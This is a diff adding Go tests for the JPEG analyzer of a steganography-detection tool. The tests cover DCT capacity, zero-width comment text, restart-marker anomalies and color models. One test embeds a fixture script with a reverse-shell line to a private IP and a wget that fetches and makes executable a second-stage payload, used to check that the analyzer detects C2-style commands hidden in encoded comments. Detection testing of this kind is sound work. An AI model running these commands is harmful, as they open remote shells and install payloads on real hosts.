@@ -0,0 +1,330 @@
+package jpeg
+
+import (
+	"encoding/base64"
+	"encoding/hex"
+	"fmt"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+
+	"DeSteGo/internal/fixtures"
+	"DeSteGo/pkg/analyzer"
+	"DeSteGo/pkg/analyzer/image/lsb"
+	"DeSteGo/pkg/models"
+)
+
+func TestAnalyzeCapacity(t *testing.T) {
+	data, err := fixtures.Load("clean.jpg")
+	if err != nil {
+		t.Fatal(err)
+	}
+	dct, err := ParseJPEGDCTCoefficients(data)
+	if err != nil {
+		t.Fatal(err)
+	}
+	usable := dct.GetStegoCoefficientCount()
+	if usable == 0 {
+		t.Fatal("no usable coefficients in clean.jpg")
+	}
+
+	result, err := NewJPEGAnalyzer().Analyze(fixtures.Path("clean.jpg"), analyzer.AnalysisOptions{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	capacity, ok := result.Details["capacity"].(map[string]int)
+	if !ok {
+		t.Fatalf("no capacity in %v", result.Details)
+	}
+	// Pixel LSB capacities do not apply to a JPEG
+	want := map[string]int{lsb.CapacityJSteg: usable / 8}
+	if len(capacity) != len(want) || capacity[lsb.CapacityJSteg] != want[lsb.CapacityJSteg] {
+		t.Errorf("got capacity %v, want %v", capacity, want)
+	}
+}
+
+func TestAnalyzeZeroWidthComment(t *testing.T) {
+	fixture, _ := fixtures.Lookup("comment_zero_width.jpg")
+	result, err := NewJPEGAnalyzer().Analyze(fixtures.Path(fixture.Name), analyzer.AnalysisOptions{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, finding := range result.Findings {
+		if strings.Contains(finding.Description, "hides text in zero-width characters") {
+			if !strings.Contains(finding.Details, fixture.Payload) {
+				t.Errorf("finding %q does not give the payload %q", finding.Details, fixture.Payload)
+			}
+			return
+		}
+	}
+	t.Errorf("no zero-width finding in %+v", result.Findings)
+}
+
+func TestAnalyzeEncodedComment(t *testing.T) {
+	script := "#!/bin/bash\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\nwget http://10.0.0.1/stage2 -O /tmp/s && chmod +x /tmp/s\n"
+	carrier, err := fixtures.Load("clean.jpg")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	tests := []struct {
+		name     string
+		comment  string
+		encoding string // Empty when the comment should not decode
+		c2       bool
+	}{
+		{"base64 script", base64.StdEncoding.EncodeToString([]byte(script)), "base64", true},
+		{"hex script", hex.EncodeToString([]byte(script)), "hex", true},
+		{"plain text", "Shot on film, developed at home", "", false},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			data, err := fixtures.JPEGComment(carrier, []byte(tt.comment))
+			if err != nil {
+				t.Fatal(err)
+			}
+			dir := t.TempDir()
+			path := filepath.Join(dir, "photo.jpg")
+			if err := os.WriteFile(path, data, 0644); err != nil {
+				t.Fatal(err)
+			}
+			outDir := filepath.Join(dir, "out")
+			if err := os.Mkdir(outDir, 0755); err != nil {
+				t.Fatal(err)
+			}
+
+			result, err := NewJPEGAnalyzer().Analyze(path, analyzer.AnalysisOptions{Extract: true, OutputDir: outDir})
+			if err != nil {
+				t.Fatal(err)
+			}
+			var encoded, c2 bool
+			for _, finding := range result.Findings {
+				encoded = encoded || finding.Description == "JPEG comment 1 is "+tt.encoding+"-encoded"
+				c2 = c2 || finding.Description == "JPEG comment 1 contains C2-style commands"
+			}
+			if encoded != (tt.encoding != "") || c2 != tt.c2 {
+				t.Errorf("got encoded %v and C2 %v, want %q and %v; findings %+v", encoded, c2, tt.encoding, tt.c2, result.Findings)
+			}
+
+			written, err := os.ReadFile(filepath.Join(outDir, "photo_comment_1.txt"))
+			if tt.encoding == "" {
+				if err == nil {
+					t.Errorf("a plain comment was written to disk")
+				}
+				return
+			}
+			if string(written) != script {
+				t.Errorf("got decoded comment %q (%v), want %q", written, err, script)
+			}
+		})
+	}
+}
+
+func TestAnalyzeCleanRationale(t *testing.T) {
+	tests := []struct {
+		fixture string
+		checks  []string // Start of each check the rationale must list, nil when the file is not clean
+	}{
+		{"clean.jpg", []string{
+			"no data after EOI",
+			"no suspicious EXIF data or embedded files",
+			"no suspicious metadata, quantization tables or comments",
+			"DCT statistics natural",
+		}},
+		{"appended_zip.jpg", nil},
+	}
+	for _, tt := range tests {
+		t.Run(tt.fixture, func(t *testing.T) {
+			result, err := NewJPEGAnalyzer().Analyze(fixtures.Path(tt.fixture), analyzer.AnalysisOptions{})
+			if err != nil {
+				t.Fatal(err)
+			}
+			rationale, ok := result.Details["clean_rationale"].(string)
+			if tt.checks == nil {
+				if ok {
+					t.Errorf("got rationale %q for a file with findings", rationale)
+				}
+				return
+			}
+			if rationale != strings.Join(result.Checks, ", ") {
+				t.Errorf("got rationale %q, want the checks %q", rationale, result.Checks)
+			}
+			for _, check := range tt.checks {
+				if !strings.Contains(rationale, check) {
+					t.Errorf("rationale %q does not list %q", rationale, check)
+				}
+			}
+		})
+	}
+}
+
+func TestAnalyzeRestarts(t *testing.T) {
+	// build returns a 64x8 grayscale JPEG of eight flat blocks with restart
+	// interval dri, the numbers of the RST markers written after each block
+	// (-1 for none) and gap written in front of the third marker
+	build := func(dri byte, markers [8]int, gap string) []byte {
+		// Each block is two 0 bits, padded with 1s to the end of its interval
+		// or packed with the others when there are no intervals
+		var scan []byte
+		if dri == 0 {
+			scan = []byte{0x00, 0x00}
+		}
+		for i := 0; i < 8; i++ {
+			if dri > 0 {
+				scan = append(scan, 0x3F)
+			}
+			if i == 2 {
+				scan = append(scan, gap...)
+			}
+			if markers[i] >= 0 {
+				scan = append(scan, 0xFF, markerRST0+byte(markers[i]))
+			}
+		}
+		parts := [][]byte{flatTables(), segment(markerSOF0, 8, 0, 8, 0, 64, 1, 1, 0x11, 0)}
+		if dri > 0 {
+			parts = append(parts, segment(markerDRI, 0, dri))
+		}
+		parts = append(parts, segment(markerSOS, 1, 1, 0x00, 0, 63, 0), scan, []byte{0xFF, markerEOI})
+		return jpegBytes(parts...)
+	}
+
+	tests := []struct {
+		name    string
+		data    []byte
+		counts  [5]int // Expected, found, missing, out of order and stray markers
+		gaps    string
+		finding string // Empty when the markers should pass
+	}{
+		{"clean", build(1, [8]int{0, 1, 2, 3, 4, 5, 6, -1}, ""), [5]int{7, 7, 0, 0, 0}, "", ""},
+		{"data before RST2", build(1, [8]int{0, 1, 2, 3, 4, 5, 6, -1}, "hidden"), [5]int{7, 7, 0, 0, 0}, "hidden", "Data hidden between restart intervals"},
+		{"RST5 renumbered", build(1, [8]int{0, 1, 2, 3, 4, 6, 6, -1}, ""), [5]int{7, 7, 0, 2, 0}, "", "Restart markers do not match the declared restart interval"},
+		{"RST3 dropped", build(1, [8]int{0, 1, 2, -1, 4, 5, 6, -1}, ""), [5]int{7, 6, 1, 1, 0}, "", "Restart markers do not match the declared restart interval"},
+		{"RST after the last block", build(1, [8]int{0, 1, 2, 3, 4, 5, 6, 7}, ""), [5]int{7, 7, 0, 0, 1}, "", "Restart markers do not match the declared restart interval"},
+		{"RST without DRI", build(0, [8]int{-1, -1, -1, -1, -1, -1, -1, 0}, ""), [5]int{0, 0, 0, 0, 1}, "", "Restart markers do not match the declared restart interval"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			dct, err := ParseJPEGDCTCoefficients(tt.data)
+			if err != nil {
+				t.Fatal(err)
+			}
+			r := dct.Restarts
+			if counts := [5]int{r.Expected, r.Found, r.Missing, r.OutOfOrder, r.Stray}; counts != tt.counts {
+				t.Errorf("got marker counts %v, want %v", counts, tt.counts)
+			}
+			if string(r.Gaps) != tt.gaps {
+				t.Errorf("got gap bytes %q, want %q", r.Gaps, tt.gaps)
+			}
+
+			path := filepath.Join(t.TempDir(), "restarts.jpg")
+			if err := os.WriteFile(path, tt.data, 0644); err != nil {
+				t.Fatal(err)
+			}
+			result, err := NewJPEGAnalyzer().Analyze(path, analyzer.AnalysisOptions{})
+			if err != nil {
+				t.Fatal(err)
+			}
+			var flagged []string
+			for _, finding := range result.Findings {
+				if strings.Contains(finding.Description, "restart") {
+					flagged = append(flagged, finding.Description)
+				}
+			}
+			switch {
+			case tt.finding == "" && len(flagged) > 0:
+				t.Errorf("got findings %q for clean restart markers", flagged)
+			case tt.finding == "" && !slices.Contains(result.Checks, "restart markers follow the interval of 1 MCUs"):
+				t.Errorf("checks %q do not include the restart markers", result.Checks)
+			case tt.finding != "" && !slices.Contains(flagged, tt.finding):
+				t.Errorf("got findings %q, want %q", flagged, tt.finding)
+			}
+		})
+	}
+}
+
+func TestAnalyzeColorModel(t *testing.T) {
+	// build returns a 16x16 baseline JPEG of flat blocks with the given number
+	// of components, after an Adobe segment with transform unless it is negative
+	build := func(components int, transform int) []byte {
+		sof := []byte{8, 0, 16, 0, 16, byte(components)}
+		sos := []byte{byte(components)}
+		for id := 1; id <= components; id++ {
+			sof = append(sof, byte(id), 0x11, 0)
+			sos = append(sos, byte(id), 0x00)
+		}
+		sos = append(sos, 0, 63, 0)
+
+		var parts [][]byte
+		if transform >= 0 {
+			parts = append(parts, segment(markerAPP14, append([]byte("Adobe\x00\x64\x00\x00\x00\x00"), byte(transform))...))
+		}
+		parts = append(parts,
+			flatTables(),
+			segment(markerSOF0, sof...),
+			segment(markerSOS, sos...),
+			// Two 0 bits for each of the four blocks of every component
+			make([]byte, components),
+			[]byte{0xFF, markerEOI})
+		return jpegBytes(parts...)
+	}
+	clean, err := fixtures.Load("clean.jpg")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	tests := []struct {
+		name   string
+		data   []byte
+		model  ColorModel
+		blocks []int // Blocks per component
+		failed bool  // Whether the image decoder rejects the file
+	}{
+		{"grayscale", build(1, -1), ColorGray, []int{4}, false},
+		{"YCbCr", clean, ColorYCbCr, []int{256, 64, 64}, false},
+		{"RGB", build(3, 0), ColorRGB, []int{4, 4, 4}, false},
+		{"CMYK", build(4, 0), ColorCMYK, []int{4, 4, 4, 4}, false},
+		{"YCCK", build(4, 2), ColorYCCK, []int{4, 4, 4, 4}, false},
+		// image/jpeg only takes four components for CMYK with an Adobe segment
+		{"CMYK without Adobe segment", build(4, -1), ColorCMYK, []int{4, 4, 4, 4}, true},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			dct, err := ParseJPEGDCTCoefficients(tt.data)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if dct.ColorModel != tt.model {
+				t.Errorf("got color model %s, want %s", dct.ColorModel, tt.model)
+			}
+
+			path := filepath.Join(t.TempDir(), "model.jpg")
+			if err := os.WriteFile(path, tt.data, 0644); err != nil {
+				t.Fatal(err)
+			}
+			result, err := NewJPEGAnalyzer().Analyze(path, analyzer.AnalysisOptions{})
+			if tt.failed {
+				if err == nil {
+					t.Error("analysis succeeded, want a decoding error")
+				}
+				return
+			}
+			if err != nil {
+				t.Fatal(err)
+			}
+			if model := result.Details["color_model"]; model != string(tt.model) {
+				t.Errorf("got color_model %v, want %s", model, tt.model)
+			}
+			if blocks, _ := result.Details["dct_component_blocks"].([]int); !slices.Equal(blocks, tt.blocks) {
+				t.Errorf("got component blocks %v, want %v", blocks, tt.blocks)
+			}
+			noted := slices.ContainsFunc(result.Findings, func(f models.Finding) bool {
+				return f.Description == fmt.Sprintf("JPEG uses the %s color model", tt.model)
+			})
+			if noted != tt.model.Multichannel() {
+				t.Errorf("color model finding %v, want %v", noted, tt.model.Multichannel())
+			}
+		})
+	}
+}